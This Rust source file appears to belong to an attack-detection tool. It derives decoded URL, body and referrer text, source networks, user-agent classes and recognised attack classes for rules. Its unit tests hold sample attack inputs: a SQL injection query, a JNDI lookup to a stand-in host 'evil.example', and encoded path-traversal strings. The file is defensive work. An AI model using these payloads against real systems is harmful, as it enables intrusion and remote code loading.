//! Fields that rules may name although no event holds them: pure functions of the redacted event.
//!
//! | name | decoded and lower-cased text of |
//! |---|---|
//! | `url.decoded` | `url.original`, else `url.full`, else `url.path?url.query` |
//! | `http.request.body.decoded` | `http.request.body.content` |
//! | `http.request.referrer.decoded` | `http.request.referrer` |
//!
//! `source.net` is the network that `source.ip` stands for: an IPv4 address itself, an IPv6 address
//! cut to its /64. Text that is no address has none. `user_agent.class` is the kind of program that
//! `user_agent.original` claims to be. `belfry.attack.class`, `.part`, `.construct` and
//! `.confidence` are what the recogniser of attack strings found, the surest class first.
//!
//! Decoding is bounded: up to [`limits::DECODE_ROUNDS_MAX`] rounds of `%XX`, `%uXXXX` and `+` (a
//! space), so that double-encoded attacks read like plain ones. Overlong two-byte forms of ASCII
//! (`%c0%ae` for a dot) read as the character; other bytes that are not UTF-8 read as U+FFFD.

use event::{Event, Value, field};

use crate::limits;
use crate::predicate::{push_folded, push_plain};
use crate::spelling;

mod agent_class;
mod attack_field;

pub use attack_field::attacks;

use attack_field::{AttackScan, Finding};

/// A derived field.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Derived {
    /// `url.decoded`
    Url,
    /// `http.request.body.decoded`
    Body,
    /// `http.request.referrer.decoded`
    Referrer,
    /// `source.net`
    SourceNet,
    /// `user_agent.class`
    AgentClass,
    /// `belfry.attack.class`
    AttackClass,
    /// `belfry.attack.part`
    AttackPart,
    /// `belfry.attack.construct`
    AttackConstruct,
    /// `belfry.attack.confidence`
    AttackConfidence,
}

impl Derived {
    const ALL: [Self; 9] = [
        Self::Url,
        Self::Body,
        Self::Referrer,
        Self::SourceNet,
        Self::AgentClass,
        Self::AttackClass,
        Self::AttackPart,
        Self::AttackConstruct,
        Self::AttackConfidence,
    ];

    fn name(self) -> &'static str {
        match self {
            Self::Url => "url.decoded",
            Self::Body => "http.request.body.decoded",
            Self::Referrer => "http.request.referrer.decoded",
            Self::SourceNet => "source.net",
            Self::AgentClass => "user_agent.class",
            Self::AttackClass => "belfry.attack.class",
            Self::AttackPart => "belfry.attack.part",
            Self::AttackConstruct => "belfry.attack.construct",
            Self::AttackConfidence => "belfry.attack.confidence",
        }
    }

    /// The derived field of this name.
    pub(crate) fn of_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|derived| derived.name() == name)
    }

    /// Appends its values for `event` to `out` and the end of each to `ends`; nothing when the
    /// event has nothing to derive from. [`Deriver::begin`] was called for the event before.
    pub(crate) fn derive(
        self,
        event: &Event,
        deriver: &mut Deriver,
        out: &mut String,
        ends: &mut Vec<usize>,
    ) {
        let text = |id| event.text(id).filter(|text| !text.is_empty());
        let decoder = &mut deriver.decoder;
        match self {
            Self::Url => {
                let whole = text(field::URL_ORIGINAL).or_else(|| text(field::URL_FULL));
                match (whole, text(field::URL_PATH), text(field::URL_QUERY)) {
                    (Some(url), _, _) => decoder.decode(&[url], out),
                    (None, None, None) => return,
                    (None, path, None) => decoder.decode(&[path.unwrap_or("")], out),
                    (None, path, Some(query)) => {
                        let query = query.trim_start_matches('?');
                        decoder.decode(&[path.unwrap_or(""), "?", query], out);
                    }
                }
            }
            Self::Body | Self::Referrer => {
                let id = match self {
                    Self::Body => field::HTTP_REQUEST_BODY_CONTENT,
                    _ => field::HTTP_REQUEST_REFERRER,
                };
                let Some(text) = text(id) else {
                    return;
                };
                decoder.decode(&[text], out);
            }
            Self::SourceNet => {
                if !text(field::SOURCE_IP).is_some_and(|ip| spelling::push_network(out, ip)) {
                    return;
                }
            }
            Self::AgentClass => match event.text(field::USER_AGENT_ORIGINAL) {
                Some(agent) => out.push_str(agent_class::class_of(agent)),
                // Only a request could have had one.
                None if event.has(field::HTTP_REQUEST_METHOD) => out.push_str("none"),
                None => return,
            },
            Self::AttackClass
            | Self::AttackPart
            | Self::AttackConstruct
            | Self::AttackConfidence => {
                for finding in deriver.attacks.findings(event) {
                    self.push_finding(finding, out);
                    ends.push(out.len());
                }
                return;
            }
        }
        ends.push(out.len());
    }

    /// Parts keep the names that senders gave them, in lower case like all derived text.
    fn push_finding(self, finding: &Finding, out: &mut String) {
        match self {
            Self::AttackClass => out.push_str(finding.class.name()),
            Self::AttackPart => push_folded(out, &finding.part),
            Self::AttackConstruct => out.push_str(finding.construct),
            _ => push_plain(out, Value::Int(i64::from(finding.confidence))),
        }
    }

    /// Its first value for `event`, appended to `out`; `false` when there is none. For the few
    /// places that look at one field of an event that matched.
    pub(crate) fn push_first(self, event: &Event, out: &mut String) -> bool {
        let start = out.len();
        let mut ends = Vec::new();
        self.derive(event, &mut Deriver::default(), out, &mut ends);
        out.truncate(ends.first().copied().unwrap_or(start));
        out.len() > start
    }
}

/// What deriving keeps from event to event: buffers, and what several fields of one event share.
#[derive(Debug, Default)]
pub(crate) struct Deriver {
    decoder: Decoder,
    attacks: AttackScan,
}

impl Deriver {
    /// Forgets what was found in the event before.
    pub(crate) fn begin(&mut self) {
        self.attacks.begin();
    }
}

/// Buffers of the decoder, kept from event to event.
#[derive(Debug, Default)]
struct Decoder {
    bytes: Vec<u8>,
    next: Vec<u8>,
}

impl Decoder {
    /// Appends the decoded, lower-cased text of `parts` in a row to `out`.
    fn decode(&mut self, parts: &[&str], out: &mut String) {
        let encoded = |text: &str| text.bytes().any(|byte| matches!(byte, b'%' | b'+'));
        if !parts.iter().any(|part| encoded(part)) {
            return parts.iter().for_each(|part| push_folded(out, part));
        }
        self.bytes.clear();
        for part in parts {
            self.bytes.extend_from_slice(part.as_bytes());
        }
        self.bytes.truncate(limits::MATCH_BYTES_MAX);
        for _ in 0..limits::DECODE_ROUNDS_MAX {
            if !decode_round(&self.bytes, &mut self.next) {
                break;
            }
            std::mem::swap(&mut self.bytes, &mut self.next);
        }
        for chunk in self.bytes.utf8_chunks() {
            push_folded(out, chunk.valid());
            if !chunk.invalid().is_empty() {
                out.push('\u{fffd}');
            }
        }
    }
}

/// One round from `input` to `out`; whether it changed anything.
fn decode_round(input: &[u8], out: &mut Vec<u8>) -> bool {
    out.clear();
    let mut at = 0;
    while at < input.len() {
        let rest = &input[at..];
        if rest[0] == b'+' {
            out.push(b' ');
            at += 1;
        } else if let Some(byte) = percent(rest) {
            at += 3;
            match percent(&input[at..]) {
                // An ASCII character hidden in a two-byte form that UTF-8 forbids.
                Some(second) if matches!(byte, 0xc0 | 0xc1) && second & 0xc0 == 0x80 => {
                    out.push((byte & 1) << 6 | second & 0x3f);
                    at += 3;
                }
                _ => out.push(byte),
            }
        } else if let Some(c) = percent_u(rest) {
            let mut utf8 = [0; 4];
            out.extend_from_slice(c.encode_utf8(&mut utf8).as_bytes());
            at += 6;
        } else {
            out.push(rest[0]);
            at += 1;
        }
    }
    out.as_slice() != input
}

fn percent(text: &[u8]) -> Option<u8> {
    match text {
        [b'%', high, low, ..] => Some(hex(*high)? << 4 | hex(*low)?),
        _ => None,
    }
}

fn percent_u(text: &[u8]) -> Option<char> {
    match text {
        [b'%', b'u' | b'U', digits @ ..] => {
            let mut code = 0;
            for digit in digits.get(..4)? {
                code = code << 4 | u32::from(hex(*digit)?);
            }
            char::from_u32(code)
        }
        _ => None,
    }
}

fn hex(digit: u8) -> Option<u8> {
    match digit {
        b'0'..=b'9' => Some(digit - b'0'),
        b'a'..=b'f' => Some(digit - b'a' + 10),
        b'A'..=b'F' => Some(digit - b'A' + 10),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(url: &str, expected: &str) {
        check_field(Derived::Url, field::URL_ORIGINAL, url, expected);
    }

    fn check_field(derived: Derived, id: event::FieldId, text: &str, expected: &str) {
        let mut event = Event::new();
        event.push_str(id, text);
        let mut out = "before ".to_owned();
        assert_eq!(derived.push_first(&event, &mut out), !expected.is_empty());
        assert_eq!(out, format!("before {expected}"));
    }

    #[test]
    fn attack_fields_share_one_scan() {
        let mut event = Event::new();
        event.push_str(field::URL_ORIGINAL, "/item?ID=-1%20union%20select%201,2--");
        event.push_str(field::USER_AGENT_ORIGINAL, "${jndi:ldap://evil.example/a}");
        let mut deriver = Deriver::default();
        let mut all = Vec::new();
        for derived in [
            Derived::AttackClass,
            Derived::AttackPart,
            Derived::AttackConstruct,
            Derived::AttackConfidence,
        ] {
            let (mut out, mut ends, mut start) = (String::new(), Vec::new(), 0);
            derived.derive(&event, &mut deriver, &mut out, &mut ends);
            for end in ends {
                all.push(out[start..end].to_owned());
                start = end;
            }
        }
        let expected = [
            "command_injection",
            "sqli",
            "user-agent",
            "query.id",
            "jndi-lookup",
            "union-select",
            "98",
            "97",
        ];
        assert_eq!(all, expected);
        assert_eq!(attacks(&event)[1], "sqli union-select in query.ID (97 %)");
        check_field(Derived::AttackClass, field::URL_ORIGINAL, "/item?id=1", "");
        check_field(
            Derived::AgentClass,
            field::USER_AGENT_ORIGINAL,
            "curl/8",
            "tool",
        );
    }

    #[test]
    fn one_line_of_a_customer_is_one_network() {
        let check = |ip, net| check_field(Derived::SourceNet, field::SOURCE_IP, ip, net);
        check("203.0.113.9", "203.0.113.9");
        check("::ffff:203.0.113.9", "203.0.113.9");
        check("2001:db8:1:2:3::4", "2001:db8:1:2::/64");
        check("unknown", "");
        check("", "");
    }

    #[test]
    fn decoding_is_bounded_and_total() {
        check("/Search?q=UNION+SELECT", "/search?q=union select");
        check("/%252e%252e%252fetc", "/../etc");
        check("/%c0%ae%c0%af", "/./");
        check("/%u0027x", "/'x");
        check("/%25252525252e", "/%25252e");
        check("/%zz%4", "/%zz%4");
        check("/%ff%41", "/\u{fffd}a");
    }

    #[test]
    fn path_and_query_stand_in_for_the_original() {
        let mut event = Event::new();
        event.push_str(field::URL_PATH, "/A");
        event.push_str(field::URL_QUERY, "b=%3C");
        let mut out = String::new();
        assert!(Derived::Url.push_first(&event, &mut out));
        assert_eq!(out, "/a?b=<");
    }
}
